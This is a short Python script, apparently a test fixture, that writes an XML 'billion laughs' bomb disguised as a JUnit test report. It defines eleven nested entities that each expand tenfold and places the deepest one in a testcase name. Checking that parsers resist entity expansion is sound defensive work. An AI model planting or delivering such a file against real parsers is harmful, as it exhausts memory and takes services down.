from pathlib import Path

entities = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 12))
with Path("/tmp/report.xml").open("w") as stream:
    stream.write(f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e0 "bomb">{entities}]>')
    stream.write('<testsuite><testcase classname="a" name="&e11;"/></testsuite>')
